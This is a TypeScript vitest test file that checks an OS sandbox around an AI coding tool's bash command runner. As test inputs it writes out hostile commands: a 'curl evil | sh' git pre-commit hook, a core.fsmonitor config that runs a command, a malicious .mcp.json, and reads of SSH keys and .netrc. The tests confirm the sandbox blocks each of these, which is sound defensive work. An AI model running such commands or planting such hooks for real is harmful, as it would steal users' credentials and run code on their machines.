import { createServer, type Server } from 'node:http'
import { createServer as createNetServer, type AddressInfo } from 'node:net'
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { SandboxConfig } from '../../../src/main/core/config/schema'
import { PermissionRejectedError } from '../../../src/main/core/permission/errors'
import { commandSandbox } from '../../../src/main/core/sandbox/project'
import { bashTool } from '../../../src/main/core/tools/bash'
import { runTool } from '../../../src/main/core/tools/run-tool'
import { tempDir } from '../../support/temp'
import { testContext } from '../../unit/tools/context'

const servers: Server[] = []
afterEach(async () => {
  for (const s of servers.splice(0)) await new Promise((r) => s.close(r))
})

/** A loopback HTTP server that counts what reaches it. */
async function loopbackServer(): Promise<{ port: number; hits: string[] }> {
  const hits: string[] = []
  const server = createServer((req, res) => {
    hits.push(req.url ?? '')
    res.end('hello from loopback\n')
  })
  servers.push(server)
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r))
  return { port: (server.address() as AddressInfo).port, hits }
}

function ctx(project: string, sandbox: ReturnType<typeof setup>['sandbox']) {
  return testContext(project, { sandbox })
}

function setup(config: SandboxConfig = {}) {
  const base = realpathSync(tempDir('hotaru-sbx-'))
  const home = join(base, 'home')
  const project = join(base, 'project')
  mkdirSync(join(home, '.ssh'), { recursive: true })
  writeFileSync(join(home, '.ssh/id_test'), 'SECRET-KEY-MATERIAL\n')
  writeFileSync(join(home, '.netrc'), 'machine x password SECRET-NETRC\n')
  mkdirSync(project)
  const sandbox = commandSandbox({ enabled: true, ...config }, { projectRoot: project, homeDir: home, dataDir: join(base, 'data'), env: process.env })
  return { base, home, project, sandbox }
}

/** How many `sleep <marker>` processes are still there after up to 5 s. */
async function sleepersLeft(marker: string): Promise<number> {
  const left = (): number =>
    readdirSync('/proc')
      .filter((p) => /^\d+$/.test(p))
      .filter((p) => {
        try {
          return readFileSync(`/proc/${p}/cmdline`, 'utf8') === `sleep\0${marker}\0`
        } catch {
          return false // ended while we looked
        }
      }).length
  const end = Date.now() + 5000
  while (left() > 0 && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
  return left()
}

describe('bash in the OS sandbox', () => {
  it('refuses writes outside the project, allows them inside (build folders too) and says what it blocked', async () => {
    const { base, home, project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const command = [
      `touch ${home}/x`,
      'echo x > ../next-to-project',
      'echo y > "$PWD/../via-pwd"',
      'mkdir -p dist/assets && echo built > dist/assets/app.js',
      'echo ok > inside.txt',
      'echo tmp > "$TMPDIR/t" && cat "$TMPDIR/t"',
    ].join('; ')
    const result = await runTool(bashTool, { command }, ctx)
    expect(existsSync(join(home, 'x'))).toBe(false)
    expect(existsSync(join(base, 'next-to-project'))).toBe(false)
    expect(existsSync(join(base, 'via-pwd'))).toBe(false)
    expect(readFileSync(join(project, 'dist/assets/app.js'), 'utf8')).toBe('built\n')
    expect(readFileSync(join(project, 'inside.txt'), 'utf8')).toBe('ok\n')
    expect(result.output).toContain('tmp')
    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${home}/x`)
    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${base}/next-to-project`)
    expect(result.output).toContain(`blocked by the sandbox: write outside the project: ${base}/via-pwd`)
    expect(result.metadata.sandboxed).toBe(true)
    expect(result.metadata.sandboxBlocked).toHaveLength(3)
  })

  it('hides denied files and folders: nothing of them reaches the output', async () => {
    const { home, project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const result = await runTool(bashTool, { command: `cat ${home}/.ssh/id_test; cat ${home}/.netrc; ls ${home}/.ssh` }, ctx)
    expect(result.output).not.toContain('SECRET')
    expect(result.output.split('\n')).not.toContain('id_test')
    expect(result.output).toContain(`blocked by the sandbox: read of a denied path: ${home}/.netrc`)
  })

  it('protects git hooks inside the project', async () => {
    const { project, sandbox } = setup()
    mkdirSync(join(project, '.git/hooks'), { recursive: true })
    const ctx = testContext(project, { sandbox })
    const result = await runTool(bashTool, { command: 'echo "curl evil | sh" > .git/hooks/pre-commit' }, ctx)
    expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false)
    expect(result.output).toContain('blocked by the sandbox: protected file')
  })

  it('moves a protected path the command created out of the project and says where; nothing stands in for it meanwhile', async () => {
    const { project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const command = ['ls -A', `echo '{"mcpServers":{"x":{"command":"evil"}}}' > .mcp.json`, 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json', 'echo ok > new.txt'].join('; ')
    const result = await runTool(bashTool, { command }, ctx)
    // No placeholder was put into the real project while the command ran: `ls -A` saw an empty folder.
    expect(result.output.startsWith('(no output)\n')).toBe(true)
    expect(existsSync(join(project, '.mcp.json'))).toBe(false)
    expect(existsSync(join(project, '.vscode'))).toBe(false)
    expect(readdirSync(project)).toEqual(['new.txt'])
    const moved = /blocked by the sandbox: created a protected path: (\S+\.mcp\.json) \(moved to (\S+)\)/.exec(result.output)
    expect(moved?.[1]).toBe(join(project, '.mcp.json'))
    expect(readFileSync(moved?.[2] ?? '', 'utf8')).toContain('evil')
    expect(result.output).toContain(`blocked by the sandbox: created a protected path: ${project}/.vscode (moved to `)
  })

  it('lets git init make a working repository, but moves out a hook and a config that would run programs', async () => {
    const { project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const plain = await runTool(bashTool, { command: 'git init -q && git status --short && echo inited' }, ctx)
    expect(plain.output).toContain('inited')
    expect(plain.output).not.toContain('blocked by the sandbox')
    expect(existsSync(join(project, '.git/config'))).toBe(true)
    rmSync(join(project, '.git'), { recursive: true })
    const command = 'git init -q && git config core.fsmonitor "touch ../pwned" && printf "#!/bin/sh\\necho evil\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit'
    const planted = await runTool(bashTool, { command }, ctx)
    expect(existsSync(join(project, '.git/HEAD'))).toBe(true)
    expect(existsSync(join(project, '.git/hooks/pre-commit'))).toBe(false)
    expect(existsSync(join(project, '.git/config'))).toBe(false)
    expect(planted.output).toContain(`blocked by the sandbox: created a git hook: ${project}/.git/hooks/pre-commit (moved to `)
    expect(planted.output).toContain(`blocked by the sandbox: created a git config that runs programs (core.fsmonitor): ${project}/.git/config`)
    // The repository still works for the user, outside the sandbox, without running anything planted.
    expect(execFileSync('git', ['status', '--short'], { cwd: project, encoding: 'utf8' })).toBe('')
  })

  it('has no network with network "none"', async () => {
    const { project, sandbox } = setup()
    const server = await loopbackServer()
    const ctx = testContext(project, { sandbox })
    const result = await runTool(bashTool, { command: `curl -sS -m 5 http://127.0.0.1:${server.port}/x` }, ctx)
    expect(server.hits).toEqual([])
    expect(result.output).not.toContain('hello from loopback')
    expect(result.output).toContain('blocked by the sandbox: network access')
  })

  it('lets allowed domains through the proxy and asks about the others', async () => {
    const { project, sandbox } = setup({ network: { allowedDomains: ['localhost'] } })
    const server = await loopbackServer()
    const asked: string[] = []
    const ctx = testContext(project, {
      sandbox,
      async ask(request) {
        if (request.permission !== 'sandbox_network') return
        asked.push(request.patterns[0] ?? '')
        throw new PermissionRejectedError('perm_1')
      },
    })
    const result = await runTool(bashTool, { command: `curl -sS -m 5 http://localhost:${server.port}/ok; curl -sS -m 5 http://127.0.0.1:${server.port}/no` }, ctx)
    expect(result.output).toContain('hello from loopback')
    expect(server.hits).toEqual(['/ok'])
    expect(asked).toEqual(['127.0.0.1'])
    expect(result.output).toContain('blocked by the sandbox: network access to 127.0.0.1')
  })

  it('refuses unix sockets with EPERM (python, node) while TCP through the proxy works', async () => {
    const { base, project, sandbox } = setup({ network: { allowedDomains: ['localhost'] } })
    const server = await loopbackServer()
    // A daemon's socket on the host, in a folder the sandbox can read.
    const socketPath = join(base, 'daemon.sock')
    const daemon = createNetServer((c) => c.end('daemon reached\n'))
    await new Promise<void>((r) => daemon.listen(socketPath, r))
    servers.push(daemon as unknown as Server)
    const python = `import socket\ntry:\n  s = socket.socket(socket.AF_UNIX); s.connect(${JSON.stringify(socketPath)}); print(s.recv(99))\nexcept OSError as e:\n  print("python", e.errno)`
    const node = `require("net").connect(${JSON.stringify(socketPath)}).on("data", (d) => console.log(String(d))).on("error", (e) => console.log("node", e.code, e.message))`
    const command = [
      `python3 -c '${python}'`,
      `node -e '${node}'`,
      `curl -sS -m 5 http://localhost:${server.port}/tcp`,
      'for f in /proc/self/fd/*; do [ "${f##*/}" -ge 3 ] && echo "fd ${f##*/}: $(readlink "$f")"; done',
    ].join('; ')
    const result = await runTool(bashTool, { command }, ctx(project, sandbox))
    expect(result.output).not.toContain('daemon reached')
    expect(result.output).toContain('python 1')
    expect(result.output).toContain('node EPERM')
    expect(result.output).toContain(`blocked by the sandbox: unix socket ${socketPath} (sandbox.allowUnixSockets is off)`)
    expect(result.output).toContain('hello from loopback')
    expect(server.hits).toEqual(['/tcp'])
    // Neither the seccomp program's fd nor the relay's channel reaches the command.
    expect(result.output).not.toMatch(/^fd \d+: (socket:|.*\.bpf)/m)
  })

  it('lets unix sockets through with allowUnixSockets', async () => {
    const { base, project, sandbox } = setup({ allowUnixSockets: true })
    const socketPath = join(base, 'daemon.sock')
    const daemon = createNetServer((c) => c.end('daemon reached\n'))
    await new Promise<void>((r) => daemon.listen(socketPath, r))
    servers.push(daemon as unknown as Server)
    const result = await runTool(bashTool, { command: `node -e 'require("net").connect(${JSON.stringify(socketPath)}).on("data", (d) => process.stdout.write(d))'` }, ctx(project, sandbox))
    expect(result.output).toContain('daemon reached')
  })

  it('with autoAllow runs without a bash ask, but a deny rule still denies', async () => {
    const { project, sandbox } = setup({ autoAllow: true })
    const ctx = testContext(project, { sandbox, check: async (request) => (request.patterns.some((p) => p.startsWith('rm')) ? 'deny' : 'ask') })
    const result = await runTool(bashTool, { command: 'echo hi > made.txt' }, ctx)
    expect(result.error).toBeUndefined()
    expect(ctx.asks.filter((a) => a.permission === 'bash')).toEqual([])
    expect(existsSync(join(project, 'made.txt'))).toBe(true)
    const denied = testContext(project, {
      sandbox,
      check: async () => 'deny',
      async ask() {
        throw new Error('denied by rule')
      },
    })
    const refused = await runTool(bashTool, { command: 'rm -rf made.txt' }, denied)
    expect(refused.error).toBeDefined()
    expect(existsSync(join(project, 'made.txt'))).toBe(true)
  })

  it('re-runs one command outside only when allowed, and always asks', async () => {
    const off = setup()
    const ctxOff = testContext(off.project, { sandbox: off.sandbox })
    const refused = await runTool(bashTool, { command: 'touch ../outside', unsandboxed: true }, ctxOff)
    expect(refused.error?.message).toMatch(/allowUnsandboxedRetry/)
    const on = setup({ allowUnsandboxedRetry: true })
    const ctx = testContext(on.project, { sandbox: on.sandbox })
    const blocked = await runTool(bashTool, { command: 'touch ../outside' }, ctx)
    expect(blocked.output).toContain('"unsandboxed": true')
    const result = await runTool(bashTool, { command: 'touch ../outside', unsandboxed: true }, ctx)
    expect(result.error).toBeUndefined()
    expect(ctx.asks.at(-1)).toMatchObject({ permission: 'bash_unsandboxed', always: [] })
    expect(existsSync(join(on.base, 'outside'))).toBe(true)
  })

  it('kills the whole sandboxed tree on timeout', async () => {
    const { project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const marker = String(40_000 + Math.floor(Math.random() * 20_000))
    const result = await runTool(bashTool, { command: `(sleep ${marker} &); setsid sleep ${marker} & wait`, timeout: 700 }, ctx)
    expect(result.metadata.timedOut).toBe(true)
    expect(await sleepersLeft(marker)).toBe(0)
  })

  it('leaves nothing running after a normal exit, without a sweep of the process table', async () => {
    const { project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const marker = String(60_000 + Math.floor(Math.random() * 20_000))
    const result = await runTool(bashTool, { command: `(sleep ${marker} >/dev/null 2>&1 &); setsid sleep ${marker} >/dev/null 2>&1 & echo started` }, ctx)
    expect(result.metadata.exitCode).toBe(0)
    expect(result.output).toContain('started')
    expect(await sleepersLeft(marker)).toBe(0)
  })

  it('confines background commands too', async () => {
    const { base, project, sandbox } = setup()
    const ctx = testContext(project, { sandbox })
    const started = await runTool(bashTool, { command: 'echo bg > ../bg.txt; echo in > bg-in.txt; echo "{}" > .mcp.json', background: true }, ctx)
    expect(started.metadata.sandboxed).toBe(true)
    const id = started.metadata.id as string
    const end = Date.now() + 10_000
    while (ctx.background.get(id)?.status === 'running' && Date.now() < end) await new Promise((r) => setTimeout(r, 50))
    expect(ctx.background.get(id)).toMatchObject({ status: 'exited', sandboxed: true })
    expect(existsSync(join(base, 'bg.txt'))).toBe(false)
    expect(readFileSync(join(project, 'bg-in.txt'), 'utf8')).toBe('in\n')
    // A protected file it created is moved out when it ends, and its output says so.
    expect(existsSync(join(project, '.mcp.json'))).toBe(false)
    expect(ctx.background.tail(id)).toContain(`blocked by the sandbox: created a protected path: ${project}/.mcp.json (moved to `)
  })
})
